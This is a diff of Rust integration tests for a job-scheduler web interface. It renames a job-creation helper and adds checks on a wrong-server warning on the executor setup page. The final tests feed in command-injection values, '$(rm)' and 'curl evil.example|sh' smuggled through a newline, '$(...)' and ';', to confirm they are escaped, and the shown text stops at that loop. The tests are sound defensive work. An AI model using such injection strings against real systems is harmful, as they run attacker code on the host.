@@ -9,7 +9,7 @@ use serde_json::json;
 use crate::harness::Server;
 use crate::visitor::{Visitor, location};
 
-async fn daily(server: &Server, handler: &str) {
+async fn create_daily_job(server: &Server, handler: &str) {
     let body = json!({"name": "daily", "app": "a", "handler": handler, "params": {"password": "p4ssw0rd"},
         "schedule": {"cron": "0 30 2 * * ?", "time_zone": "Europe/Berlin"}});
     server.with_body("POST", "/api/v1/jobs", body).await.expect(201);
@@ -18,7 +18,7 @@ async fn daily(server: &Server, handler: &str) {
 #[tokio::test]
 async fn activity_shows_actors_and_objects_and_filters_by_them() {
     let server = Server::start().await;
-    daily(&server, "h").await;
+    create_daily_job(&server, "h").await;
     server.with_body("PATCH", "/api/v1/jobs/daily", json!({"handler": "<b>h2"})).await;
     server.with_body("PATCH", "/api/v1/jobs/daily", json!({"handler": "h3"})).await.expect(200);
     server.bare("POST", "/api/v1/jobs/daily/pause").await.expect(200);
@@ -84,7 +84,7 @@ async fn activity_has_pages() {
     let visitor = Visitor::signed_in(&server).await;
     let first = visitor.get("/activity?object=there&from=8h+ago").await.text();
     let next =
-        first.split("href=\"/activity?").filter_map(|rest| rest.split('"').next()).find(|one| one.contains("cursor="));
+        first.split("href=\"/activity?").filter_map(|rest| rest.split('"').next()).find(|url| url.contains("cursor="));
     let next = next.expect("there is a next page").replace("&#38;", "&").replace("&amp;", "&");
     let second = visitor.get(&format!("/activity?{next}")).await.text();
     assert!(
@@ -110,7 +110,7 @@ async fn activity_is_filtered_by_times_on_the_reader_s_clock() {
 #[tokio::test]
 async fn why_is_one_box_that_understands_times_and_names_near_misses() {
     let server = Server::start().await;
-    daily(&server, "report.dayly").await;
+    create_daily_job(&server, "report.dayly").await;
     let mut visitor = Visitor::signed_in(&server).await;
     assert!(visitor.get("/why").await.text().contains("<option value=\"daily\">"));
     for at in ["2030-01-16+02:30", "2030-01-16T01:30:00Z", "2030-01-16T02:30"] {
@@ -143,7 +143,7 @@ async fn why_is_one_box_that_understands_times_and_names_near_misses() {
 #[tokio::test]
 async fn why_names_a_paused_parent() {
     let server = Server::start().await;
-    daily(&server, "h").await;
+    create_daily_job(&server, "h").await;
     let body = json!({"name": "mail", "app": "a", "handler": "h", "schedule": {"after": ["daily"]}});
     server.with_body("POST", "/api/v1/jobs", body).await.expect(201);
     let visitor = Visitor::signed_in(&server).await;
@@ -158,7 +158,7 @@ async fn why_names_a_paused_parent() {
 #[tokio::test]
 async fn two_versions_are_compared_and_one_is_restored() {
     let server = Server::start().await;
-    daily(&server, "h").await;
+    create_daily_job(&server, "h").await;
     let later = json!({"schedule": {"cron": "0 30 3 * * ?", "time_zone": "Europe/Berlin"}});
     server.with_body("PATCH", "/api/v1/jobs/daily", later).await.expect(200);
     server.with_body("PATCH", "/api/v1/jobs/daily", json!({"description": "late"})).await.expect(200);
@@ -183,7 +183,7 @@ async fn two_versions_are_compared_and_one_is_restored() {
 #[tokio::test]
 async fn the_fleet_shows_servers_and_switches_apps() {
     let server = Server::start().await;
-    daily(&server, "h").await;
+    create_daily_job(&server, "h").await;
     let visitor = Visitor::signed_in(&server).await;
     let text = visitor.get("/executors").await.text();
     assert!(text.contains("Servers") && text.contains("Loops") && text.contains("this one"), "{text}");
@@ -197,6 +197,12 @@ async fn the_fleet_shows_servers_and_switches_apps() {
     assert_eq!(visitor.get("/executors/none").await.status, 404);
     let text = visitor.get("/executors/new?app=billing&server=https://r.example").await.text();
     assert!(text.contains("--server https://r.example") && text.contains("executor:default/billing"), "{text}");
+    assert!(text.contains("connect to https://r.example, which is not this server (http://"), "{text}");
+    let text = visitor.get("/executors/new?app=billing").await.text();
+    assert!(!text.contains("id=\"other-server\""), "{text}");
+    let own = text.split("agent --server ").nth(1).and_then(|rest| rest.split(' ').next()).unwrap();
+    let text = visitor.get(&format!("/executors/new?app=billing&server={own}/")).await.text();
+    assert!(!text.contains("id=\"other-server\""), "the server's own address needs no warning: {text}");
     let answer = visitor.get("/executors/new?app=$(rm)&server=%3Cb%3E").await.text();
     assert!(!answer.contains("--app $(rm)") && !answer.contains("<b>'"), "{answer}");
     for server in ["http://a%0Acurl+evil.example%7Csh%0A", "http://$(curl+evil.example%7Csh)", "a;curl+evil.example"] {
